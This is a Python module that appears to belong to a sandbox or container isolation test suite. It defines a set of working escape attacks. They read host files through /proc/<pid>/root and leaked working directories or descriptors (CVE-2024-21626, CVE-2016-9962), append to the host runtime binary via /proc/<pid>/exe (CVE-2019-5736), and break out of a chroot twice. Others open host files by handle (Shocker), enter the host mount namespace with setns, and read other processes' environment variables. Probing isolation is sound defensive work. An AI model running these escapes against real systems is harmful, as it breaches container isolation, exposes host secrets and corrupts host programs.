"""Out of the root directory: leaked descriptors and working directories, handles, links, other processes' roots."""

UP = "../" * 20


@attack("host-file")
def host_file():
    """A file of the host by its path, as it is and through what lies open around."""
    bases = [""] + [f"/proc/{pid}/root" for pid in pids()]
    return read_any([base + CFG["shown"] for base in bases]) or "nothing"


@attack("cwd-leak")
def cwd_leak():
    """CVE-2024-21626: a working directory outside the root, ours or any process's; `..` is not stopped there."""
    bases = [".", "/proc/self/cwd", "/proc/1/cwd"] + [f"/proc/{pid}/cwd" for pid in pids()]
    return read_any([p for base in bases for p in (f"{base}/{UP}{CFG['hidden']}", f"{base}/secret")]) or "nothing"


@attack("fd-leak")
def fd_leak():
    """CVE-2016-9962: a descriptor for something outside that a runtime left open, in us or in process 1."""
    found = glob.glob("/proc/self/fd/*") + glob.glob("/proc/[0-9]*/fd/*")
    return read_any([p for base in found for p in (f"{base}/{UP}{CFG['hidden']}", f"{base}/secret")]) or "nothing"


@attack("self-exe")
def self_exe():
    """CVE-2019-5736: write to the host's program through the /proc/<pid>/exe of a process that runs it."""
    def through_exe():
        # It runs for as long as its input stays open.
        entry, _held = os.pipe()
        child = os.fork()
        if child == 0:
            try:
                os.dup2(entry, 0)
                os.dup2(os.open("/dev/null", os.O_WRONLY), 1)
                os.execv(CFG["program"], [CFG["program"], *CFG["programArguments"]])
            finally:
                os._exit(127)
        try:
            time.sleep(0.2)
            handle = os.open(f"/proc/{child}/exe", os.O_PATH)
        finally:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
        return append(f"/proc/self/fd/{handle}")

    def append(path):
        writer = os.open(path, os.O_WRONLY | os.O_APPEND)
        return f"wrote {os.write(writer, CFG['mark'].encode())}"

    ways = [through_exe, lambda: append("/proc/1/exe"), lambda: append("/.bulkhead/agent"), lambda: append("/.bulkhead/sudo")]
    told = []
    for way in ways:
        try:
            told.append(way())
        except OSError as error:
            told.append(str(error))
    return "; ".join(told)


@attack("chroot-escape")
def chroot_escape():
    """A second chroot below the working directory: `..` then passes the first one's root."""
    def out():
        os.makedirs("/tmp/below", exist_ok=True)
        os.chdir("/")
        os.chroot("/tmp/below")
        return read(UP + CFG["hidden"])
    return in_child(out)


@attack("open-by-handle")
def open_by_handle():
    """Shocker: a file of the host by its number on the disk, through any mount of that disk that is inside."""
    kind, raw = CFG["handle"]["type"], bytes.fromhex(CFG["handle"]["bytes"])
    handle = ctypes.create_string_buffer(struct.pack("Ii", len(raw), kind) + raw)
    places = [line.split()[4] for line in open("/proc/self/mountinfo")] + ["/"]

    def through(place):
        at = os.open(place, os.O_RDONLY)
        try:
            return os.read(call("open_by_handle_at", at, handle, os.O_RDONLY), 4096).decode("latin1")
        finally:
            os.close(at)
    return first(*[lambda place=place: through(place) for place in dict.fromkeys(places)])


@attack("proc-root")
def proc_root():
    """The root, working directory and open files of a process of the host, by its number there."""
    base = f"/proc/{CFG['victim']}"
    names = [f"{base}/root{CFG['hidden']}", f"{base}/cwd/secret"] + glob.glob(f"{base}/fd/*")
    return read_any(names) + read_any([f"{base}/environ"]) or "nothing"


@attack("setns")
def setns():
    """The mount namespace of a process of the host."""
    def enter(pid):
        handle = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
        libc("setns", handle, CLONE_NEWNS)
        return read(CFG["hidden"])
    return first(*[lambda pid=pid: in_child(lambda: enter(pid)) for pid in (CFG["victim"], 1)])
